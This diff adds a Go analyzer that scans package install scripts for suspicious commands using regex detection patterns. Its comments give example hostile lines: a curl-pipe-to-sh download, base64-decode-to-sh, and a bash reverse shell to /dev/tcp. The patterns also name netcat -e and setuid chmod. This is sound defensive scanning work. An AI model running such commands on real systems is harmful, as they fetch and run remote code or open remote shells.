@@ -0,0 +1,63 @@
+package analyzer
+
+import (
+	"bufio"
+	"regexp"
+	"sort"
+	"strings"
+)
+
+// DefaultScriptPatterns are commands often seen in malicious package scripts.
+var DefaultScriptPatterns = []*regexp.Regexp{
+	// e.g. curl -s https://example.com/install.sh | sh
+	regexp.MustCompile(`\b(?:curl|wget)\b.*\|\s*(?:ba|z|da)?sh\b`),
+	// e.g. echo ... | base64 -d | sh
+	regexp.MustCompile(`\bbase64\s+(?:-d|--decode)\b`),
+	// e.g. bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
+	regexp.MustCompile(`/dev/(?:tcp|udp)/`),
+	regexp.MustCompile(`\b(?:nc|ncat|netcat)\b.*\s-[a-z]*e\b`),
+	regexp.MustCompile(`\bchmod\s+[ugoa]*\+s\b`),
+}
+
+// ScriptFinding is a line of a package script matching a pattern.
+type ScriptFinding struct {
+	PackageName    string
+	PackageVersion string
+	// Script is the key of Package.Scripts such as "postin".
+	Script  string
+	Pattern string
+	Line    string
+}
+
+// ScanPackageScripts returns the lines of the package scripts matching any of the patterns.
+// A line matching multiple patterns is reported for each pattern.
+func ScanPackageScripts(pkgs []Package, patterns []*regexp.Regexp) []ScriptFinding {
+	var findings []ScriptFinding
+	for _, pkg := range pkgs {
+		var names []string
+		for name := range pkg.Scripts {
+			names = append(names, name)
+		}
+		sort.Strings(names)
+
+		for _, name := range names {
+			scanner := bufio.NewScanner(strings.NewReader(pkg.Scripts[name]))
+			for scanner.Scan() {
+				line := strings.TrimSpace(scanner.Text())
+				for _, pattern := range patterns {
+					if !pattern.MatchString(line) {
+						continue
+					}
+					findings = append(findings, ScriptFinding{
+						PackageName:    pkg.Name,
+						PackageVersion: pkg.VersionString(),
+						Script:         name,
+						Pattern:        pattern.String(),
+						Line:           line,
+					})
+				}
+			}
+		}
+	}
+	return findings
+}